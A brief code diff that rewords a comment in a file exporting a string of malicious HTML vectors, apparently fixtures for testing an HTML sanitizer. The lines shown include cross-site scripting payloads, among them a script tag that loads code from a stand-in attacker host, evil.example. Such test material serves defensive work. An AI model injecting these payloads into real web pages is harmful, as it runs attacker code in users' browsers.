@@ -1,4 +1,4 @@
-// HTML that attacks, one vector a line.
+// Malicious HTML, one vector per line.
 export const HTML = String.raw`
 <script>X</script>
 <SCRIPT SRC=//evil.example/x.js></SCRIPT>
